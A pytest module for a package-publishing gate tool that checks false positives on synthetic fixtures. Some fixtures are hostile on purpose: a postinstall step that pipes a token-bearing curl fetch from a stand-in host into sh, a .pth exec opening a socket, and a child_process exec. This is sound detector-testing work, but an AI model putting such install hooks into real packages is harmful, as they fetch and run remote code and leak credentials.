"""False positives found by gating popular published packages, each rebuilt as a small synthetic fixture.

Nothing here is copied from a real package: the shapes are the same (a framework
shipping hundreds of maps, a test suite shipping TLS keys, a build script using
``re.compile``), the contents are made up at run time.
"""

from __future__ import annotations

import json
import random
from pathlib import Path

import gatefixtures as gf
from gatehelpers import gate, rules_of

from shipwarden.secrets.fakes import fake_token


def _tiers(result, rule: str) -> list[str]:  # type: ignore[no-untyped-def]
    return sorted(f.tier.value for f in result.report.findings if f.rule_id == rule)


# -- source maps -------------------------------------------------------------------


def _map(sources: list[str], contents: list[str] | None) -> str:
    doc: dict[str, object] = {"version": 3, "sources": sources, "names": [], "mappings": "AAAA"}
    if contents is not None:
        doc["sourcesContent"] = contents
    return json.dumps(doc)


def test_many_maps_are_one_finding_per_rule(tmp_path: Path) -> None:
    files: dict[str, str] = {"package.json": gf.pkg_json(files=["dist"])}
    for i in range(40):
        files[f"dist/m{i}.js"] = f"exports.v = {i}\n//# sourceMappingURL=m{i}.js.map\n"
        files[f"dist/m{i}.js.map"] = _map([f"../src/m{i}.ts"], [f"export const v = {i}\n" * (i + 1)])
    for i in range(30):
        files[f"dist/n{i}.js.map"] = _map([f"../src/n{i}.ts"], None)
    result = gate(gf.write(tmp_path, files))
    content = [f for f in result.report.findings if f.rule_id == "gate-source-map-content"]
    plain = [f for f in result.report.findings if f.rule_id == "gate-source-map"]
    assert len(content) == 1 and len(plain) == 1
    (leak,) = content
    assert leak.tier.value == "P1" and leak.properties["map_count"] == 40 and leak.properties["files"] == 40
    assert leak.primary.path == "dist/m39.js.map"  # the map that gives away the most
    assert "40 source maps" in leak.message
    assert plain[0].tier.value == "P2" and plain[0].properties["map_count"] == 30


def test_map_content_that_ships_anyway_is_not_a_leak(tmp_path: Path) -> None:
    """sourcesContent that repeats shipped src/ files and node_modules/ code gives nothing away."""
    gf.write(
        tmp_path,
        {
            "package.json": gf.pkg_json(files=["build", "src"]),
            "build/index.js": "exports.a = 1\n",
            "build/index.js.map": _map(
                ["../src/index.ts", "../node_modules/left-pad/index.js"],
                ["export const a = 1\n", "module.exports = () => ''\n"],
            ),
            "src/index.ts": "export const a = 1\n",
        },
    )
    result = gate(tmp_path)
    assert "gate-source-map-content" not in {f.rule_id for f in result.report.findings}
    (finding,) = [f for f in result.report.findings if f.rule_id == "gate-source-map"]
    assert finding.tier.value == "P2" and finding.properties["shipped_sources"] == ["src/index.ts"]
    # one original that does not ship is enough for the P1
    gf.write(
        tmp_path,
        {
            "build/index.js.map": _map(
                ["../src/index.ts", "../src/internal/billing.ts"], ["export const a = 1\n", "export const p = 2\n"]
            )
        },
    )
    (leak,) = [f for f in gate(tmp_path).report.findings if f.rule_id == "gate-source-map-content"]
    assert leak.tier.value == "P1" and leak.properties["not_shipped"] == 1
    assert leak.properties["not_shipped_sample"] == ["../src/internal/billing.ts"]


# -- install-time code ---------------------------------------------------------------


def test_inline_node_loader_of_a_local_file_is_not_a_downloader(tmp_path: Path) -> None:
    gf.write(
        tmp_path,
        {
            "package.json": gf.pkg_json(
                scripts={
                    "postinstall": "node -e \"try{require('./postinstall')}catch(e){}\"",
                    "prepare": 'node -e "if (!process.env.CI_OK) process.exit(1)"',
                }
            ),
            "postinstall.js": "console.log('thanks')\n",
        },
    )
    got = {
        (f.properties["script"], f.tier.value)
        for f in gate(tmp_path).report.findings
        if f.rule_id == "gate-install-script"
    }
    assert got == {("postinstall", "P1")}  # npm does not run prepare on registry installs
    # inline code that reaches for a shell or the network still is
    gf.write(
        tmp_path,
        {"package.json": gf.pkg_json(scripts={"postinstall": "node -e \"require('child_process').exec('id')\""})},
    )
    (finding,) = [f for f in gate(tmp_path).report.findings if f.rule_id == "gate-install-script"]
    assert finding.tier.value == "P0" and "child_process" in finding.properties["suspicious"]


def test_ordinary_build_script_setup_py_stays_p2(tmp_path: Path) -> None:
    setup = (
        "import re, subprocess\n"
        "from setuptools import setup\n"
        "VERSION = re.compile(r'__version__ = (.*)')\n"
        "exec(open('pkg/_version.py').read())\n"
        "flags = subprocess.check_output(['pkg-config', '--cflags', 'libfixture'])\n"
        "setup(name='fixture', install_requires=['urllib3>=2'])\n"
    )
    sdist = gf.sdist_tar(tmp_path / "fixture-1.0.0.tar.gz", {"setup.py": setup, "pkg/__init__.py": ""})
    (finding,) = gate(sdist).report.findings
    assert finding.rule_id == "gate-setup-py" and finding.tier.value == "P2"
    assert "compile(" not in finding.properties["suspicious"] and "urllib" not in finding.properties["suspicious"]
    fetching = setup + "import urllib.request\nurllib.request.urlopen('https://x.example.invalid/p')\n"
    sdist = gf.sdist_tar(tmp_path / "fixture-1.0.1.tar.gz", {"setup.py": fetching}, top="fixture-1.0.1")
    (finding,) = gate(sdist).report.findings
    assert finding.tier.value == "P1" and "urlopen" in finding.properties["suspicious"]


def test_pth_exec_of_a_readable_literal_is_not_the_litellm_shape(tmp_path: Path) -> None:
    hook = "import sys; exec('import os\\nif os.getenv(\"FIXTURE_START\"):\\n import fixture_hook')\n"
    wheel = gf.wheel(tmp_path / "fx-1.0-py3-none-any.whl", {"fx_hook.pth": hook})
    assert rules_of(gate(wheel)) == [("gate-pth-exec", "P1", "fx-1.0-py3-none-any.whl!/fx_hook.pth")]
    hidden = "import sys; exec('import socket; socket.create_connection((\"x.example.invalid\", 80))')\n"
    wheel = gf.wheel(tmp_path / "fy-1.0-py3-none-any.whl", {"fy_hook.pth": hidden})
    assert rules_of(gate(wheel))[0][:2] == ("gate-pth-exec", "P0")


def test_windows_launcher_in_pure_wheel_is_p2_extension_module_p1(tmp_path: Path) -> None:
    pe = bytearray(0x80)
    pe[0:2] = b"MZ"
    pe[0x3C:0x40] = (0x40).to_bytes(4, "little")
    pe[0x40:0x44] = b"PE\x00\x00"
    wheel = gf.wheel(
        tmp_path / "x-1.0-py3-none-any.whl",
        {"x/launcher-64.exe": bytes(pe), "x/_speed.cpython-311-x86_64-linux-gnu.so": b"\x7fELF" + bytes(64)},
    )
    got = {(f.primary.path.split("!/")[1], f.tier.value) for f in gate(wheel).report.findings}
    assert got == {("x/launcher-64.exe", "P2"), ("x/_speed.cpython-311-x86_64-linux-gnu.so", "P1")}


# -- never-ship and secrets in test material -------------------------------------


def test_test_suite_keys_are_p2_but_a_shipped_key_blocks(tmp_path: Path) -> None:
    key = fake_token("private-key", 3)
    sdist = gf.sdist_tar(
        tmp_path / "fixture-1.0.0.tar.gz",
        {
            "tests/certs/server.key": key,
            "src/core/test_creds/ca.key": key,
            "dummyserver/certs/client.key": key,
            "tests/apps/.env": "FOO=bar\n",
            "fixture/__init__.py": "",
        },
    )
    got = {(f.rule_id, f.tier.value) for f in gate(sdist).report.findings}
    assert got == {("gate-never-ship", "P2"), ("gate-secret", "P2")}
    sdist = gf.sdist_tar(
        tmp_path / "fixture-1.0.1.tar.gz", {"pkg/server.key": key, "pkg/__init__.py": ""}, top="fixture-1.0.1"
    )
    got = {(f.rule_id, f.tier.value) for f in gate(sdist).report.findings}
    assert got == {("gate-never-ship", "P1"), ("gate-secret", "P0")}


def test_provider_token_in_tests_keeps_its_tier(tmp_path: Path) -> None:
    gf.write(
        tmp_path,
        {"package.json": gf.pkg_json(), "test/config.test.js": f'const t = "{gf.npm_token()}"\n'},
    )
    (secret,) = [f for f in gate(tmp_path).report.findings if f.rule_id == "gate-secret"]
    assert secret.tier.value == "P0" and "test fixture" in secret.message


def test_low_confidence_guess_never_blocks_even_for_a_publish_capable_kind(tmp_path: Path) -> None:
    rng = random.Random(4)
    value = "".join(rng.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(52))
    gf.write(tmp_path, {"package.json": gf.pkg_json(), "lib/config.json": json.dumps({"ClientSecret": value})})
    (secret,) = [f for f in gate(tmp_path).report.findings if f.rule_id == "gate-secret"]
    assert secret.tier.value == "P2" and secret.confidence.value == "low"


def test_a_file_named_like_a_vcs_folder_is_not_vcs_internals(tmp_path: Path) -> None:
    sdist = gf.sdist_tar(tmp_path / "fixture-1.0.0.tar.gz", {"pkg/static/CVS": "", "pkg/__init__.py": ""})
    assert gate(sdist).report.findings == []
    sdist = gf.sdist_tar(
        tmp_path / "fixture-1.0.1.tar.gz",
        {"pkg/CVS/Entries": "/a.py/1.1///\n", "pkg/__init__.py": ""},
        top="fixture-1.0.1",
    )
    assert rules_of(gate(sdist)) == [("gate-never-ship", "P1", "fixture-1.0.1.tar.gz!/fixture-1.0.1/pkg/CVS/Entries")]


def test_no_report_format_quotes_a_secret_from_a_script_or_dependency(tmp_path: Path) -> None:
    from shipwarden.cli import main

    token = gf.github_token()
    password = gf.token("Pw", 20, seed=21)
    gf.write(
        tmp_path / "pkg",
        {
            "package.json": gf.pkg_json(
                files=["index.js"],
                scripts={"postinstall": f"curl -H 'Authorization: token {token}' https://x.example.invalid/i | sh"},
                dependencies={"priv": f"git+https://deploy:{password}@git.example.invalid/o/r.git"},
            ),
            "index.js": "module.exports = 1\n",
        },
    )
    result = gate(tmp_path / "pkg")
    assert {f.rule_id for f in result.report.findings} >= {"gate-install-script", "gate-non-registry-dependency"}
    for fmt in ("text", "json", "sarif", "github"):
        out = tmp_path / f"out.{fmt}"
        main(["gate", str(tmp_path / "pkg"), "--packlist", "builtin", "--format", fmt, "--output", str(out), "-q"])
        text = out.read_text()
        assert token not in text and password not in text, fmt
        assert "[fp:" in text


def test_open_source_package_with_maps_is_p2_proprietary_stays_p1(tmp_path: Path) -> None:
    def leak(**manifest: object) -> tuple[str, str]:
        gf.write(
            tmp_path,
            {
                "package.json": gf.pkg_json(files=["dist"], **manifest),
                "dist/cli.js": "console.log(1)\n",
                "dist/cli.js.map": gf.source_map(),
            },
        )
        (finding,) = [f for f in gate(tmp_path).report.findings if f.rule_id == "gate-source-map-content"]
        return finding.tier.value, finding.confidence.value

    repo = {"type": "git", "url": "git+https://git.example.invalid/o/r.git"}
    assert leak(license="MIT", repository=repo) == ("P2", "medium")
    assert leak(license="(MIT OR Apache-2.0)", repository=repo) == ("P2", "medium")
    # the Claude Code shape: a proprietary licence reference, no repository
    assert leak(license="SEE LICENSE IN README.md") == ("P1", "high")
    assert leak(license="UNLICENSED", repository=repo) == ("P1", "high")
    assert leak(license="MIT") == ("P1", "high")  # no repository named: no claim the code is public
    assert leak() == ("P1", "high")
